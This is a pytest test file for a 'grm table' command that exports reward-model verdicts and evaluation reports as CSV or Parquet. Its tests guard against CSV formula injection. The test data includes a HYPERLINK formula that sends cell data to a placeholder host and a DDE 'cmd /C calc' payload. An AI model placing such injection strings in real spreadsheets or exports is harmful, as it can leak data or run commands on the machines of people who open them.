"""`grm table`: verdicts and evaluations as flat tables, which a spreadsheet opens without harm."""

import csv
import json
from pathlib import Path

import pyarrow.parquet
import pytest

from grm_jax.cli import main
from grm_jax.data.sources import load_examples
from grm_jax.evals.report import write_report
from grm_jax.judging.judgment import Judgment, Verdict
from tests.evals.judged import NONE, RIGHT, TIED, WRONG, benchmark, example, judged, save

FORMULA = "=HYPERLINK(\"http://x/?\"&A1, 'a,b')"
SECRET = "what was written"


def verdict(name: object, *, scores=(16, 2), ranking=(0, 1), tied=(0,), degenerate=None) -> dict:
    judgment = Judgment(0, (0, 1), SECRET, SECRET, (8, 1), None, SECRET, 3, -1.0)
    made = Verdict(
        "", scores, ranking[0], ranking, tied, 7.0, 2, 3, (judgment,) * 2, degenerate or {}
    )
    return made.to_json() | {"id": name, "line": 1, "digest": "ab" * 8}


VERDICTS = [
    verdict("plain"),
    verdict(FORMULA, scores=(4, 4), ranking=(1, 0), tied=(0, 1)),
    verdict(-7, degenerate={1: "empty"}),
    {"id": "bad", "line": 4, "error": f"{FORMULA} is no row"},
    {"id": "later", "line": 5, "digest": "cd" * 8, "error": "the server is down", "passing": True},
]


@pytest.fixture
def verdicts(tmp_path: Path) -> Path:
    path = tmp_path / "verdicts.jsonl"
    lines = (json.dumps(line) for line in VERDICTS)
    path.write_text("\n".join(lines) + '\n{"id": "torn')  # as it is while a command writes it
    return path


def read(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_there_is_a_row_for_each_response(verdicts, tmp_path, capsys) -> None:
    table = tmp_path / "verdicts.parquet"
    assert main(["table", str(verdicts), str(table)]) == 0
    assert "verdicts.parquet: 8 rows." in capsys.readouterr().out
    rows = pyarrow.parquet.read_table(table).to_pylist()
    first, second, *_ = rows
    assert first == {
        **{"id": "plain", "path": None, "line": 1, "digest": "ab" * 8, "status": "verdict"},
        **{"responses": 2, "response": 0, "score": 16.0, "mean_score": 8.0},
        **{"rank": 1, "best": True, "tied": False, "margin": 7.0},
        **{"k": 3, "valid": 2, "counted": 2, "degenerate": None},
    }
    assert (second["response"], second["rank"], second["best"]) == (1, 2, False)
    # The winner of a tie is drawn; both are marked.
    assert [(row["rank"], row["best"], row["tied"]) for row in rows[2:4]] == [
        (2, False, True),
        (1, True, True),
    ]
    assert [row["degenerate"] for row in rows[4:6]] == [None, "empty"]
    assert [(row["status"], row["response"], row["score"]) for row in rows[6:]] == [
        ("error", None, None),
        ("passing", None, None),
    ]
    assert rows[2]["id"] == FORMULA


def test_a_csv_holds_no_formula_and_the_same_numbers(verdicts, tmp_path) -> None:
    table, exact = tmp_path / "verdicts.csv", tmp_path / "verdicts.parquet"
    for path in (table, exact):
        assert main(["table", str(verdicts), str(path)]) == 0
    rows, wanted = read(table), pyarrow.parquet.read_table(exact).to_pylist()
    assert [row["id"] for row in rows[2:5:2]] == [f"'{FORMULA}", "-7"]
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(tuple("=+@\t\r\n")) for cell in cells)
    assert SECRET not in table.read_text()
    for name in ("score", "mean_score", "margin", "rank", "k"):
        assert [float(row[name]) if row[name] else None for row in rows] == [
            row[name] for row in wanted
        ]


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "-1+"])
def test_no_cell_begins_as_a_formula(begins, tmp_path) -> None:
    name = f"{begins}cmd|' /C calc'!A0,\"\n="
    (tmp_path / "v.jsonl").write_text(json.dumps(verdict(name)) + "\n")
    assert main(["table", str(tmp_path / "v.jsonl"), str(tmp_path / "v.csv")]) == 0
    assert {row["id"] for row in read(tmp_path / "v.csv")} == {f"'{name}"}


def test_a_judged_file_becomes_a_table_and_is_not_read_as_rows(tmp_path, capsys) -> None:
    rows = [{"id": i, "prompt": "What is 61+21?", "responses": ["81", "82"]} for i in (1, 2)]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    output = tmp_path / "v.jsonl"
    asked = ["judge", "--k", "2", "--slots", "8", "--input", str(tmp_path / "rows.jsonl")]
    assert main([*asked, "--output", str(tmp_path / "v.csv")]) == 2
    assert "grm table verdicts.jsonl" in capsys.readouterr().err
    assert main([*asked, "--output", str(output)]) == 0
    assert "Computing on CPU: 1 of 8 devices.\n" in capsys.readouterr().err
    for name in ("v.csv", "v.parquet"):
        assert main(["table", str(output), str(tmp_path / name)]) == 0
        assert main(["table", str(output), str(tmp_path / name)]) == 0, "an own table is replaced"
    assert [row["id"] for row in read(tmp_path / "v.csv")] == ["1", "1", "2", "2"]
    source = load_examples(tmp_path)
    assert len([*source]) == 2
    assert source.count() == 2
    assert "v.csv (written by grm), v.jsonl (written by grm), v.parquet (writt" in source.mapping


@pytest.fixture
def evaluations(tmp_path: Path) -> Path:
    """Two of the same rows, in a folder with another command's report."""
    rows = [example(str(i), "AB"[i % 2]) for i in range(4)]
    known = benchmark([*rows, example("never judged")])
    for name, scores in (("one", (RIGHT, WRONG)), ("two", (RIGHT, TIED))):
        folder = tmp_path / "eval" / name
        judgments = [judged(row, *scores, meta=(1.5, -1.5)) for row in rows[1:]]
        save(folder / "samples.jsonl", [judged(rows[0], NONE, NONE), *judgments])
        save(folder / "greedy.jsonl", [judged(row, RIGHT) for row in rows])
        write_report(known, folder, settings={"model": name}, resamples=20)
    (tmp_path / "eval" / "train").mkdir()
    (tmp_path / "eval" / "train" / "report.json").write_text('{"auc": 0.5}')
    return tmp_path / "eval"


def test_evaluations_have_a_row_for_each_cell_vote_and_k(evaluations, tmp_path) -> None:
    table = tmp_path / "all.parquet"
    assert main(["table", str(evaluations), str(table)]) == 0
    rows = pyarrow.parquet.read_table(table).to_pylist()
    assert {row["folder"] for row in rows} == {row["judge"] for row in rows} == {"one", "two"}
    one = [row for row in rows if row["folder"] == "one"]
    report = json.loads((evaluations / "one" / "report.json").read_text())
    ways = [("greedy", 1), ("Voting", 1), ("Voting", 2), ("MetaRM", 2), ("gain", 2)]
    assert [(row["vote"], row["k"], row["cell"]) for row in one] == [
        (*way, cell) for way in ways for cell in ("total", "A", "B")
    ]
    for row in one:
        assert (row["headline"], row["partial"], row["rows"]) == (row["cell"] == "total", True, 4)
    (gain,) = (row for row in one if (row["vote"], row["cell"]) == ("gain", "total"))
    assert {name: gain[name] for name in ("value", "low", "high")} == report["gains"][0]["cells"][
        "total"
    ]
    single = tmp_path / "one.csv"
    assert main(["table", str(evaluations / "one"), str(single)]) == 0
    assert [float(row["value"]) for row in read(single)] == [row["value"] for row in one]


def test_what_is_no_record_or_no_table_is_refused(evaluations, verdicts, tmp_path, capsys) -> None:
    def refused(*arguments: object) -> str:
        assert main(["table", *map(str, arguments)]) == 2
        return capsys.readouterr().err

    assert "give a name that ends in .csv or .parquet" in refused(verdicts, "v.xlsx")
    assert "there is nothing at" in refused(tmp_path / "none.jsonl", tmp_path / "v.csv")
    told = refused(evaluations / "one" / "rows.jsonl", tmp_path / "v.csv")
    assert "rows.jsonl:1 is no line of `grm judge --output`" in told
    told = refused(evaluations / "train", tmp_path / "v.csv")
    assert "is no report of `grm eval`" in told
    (tmp_path / "empty").mkdir()
    assert "holds no evaluation" in refused(tmp_path / "empty", tmp_path / "v.csv")
    other = tmp_path / "other.csv"
    other.write_text("a,b\n1,2\n")
    assert "is there and is not a table of grm table" in refused(verdicts, other)
    assert other.read_text() == "a,b\n1,2\n"
    assert not [*tmp_path.glob("*.part")]
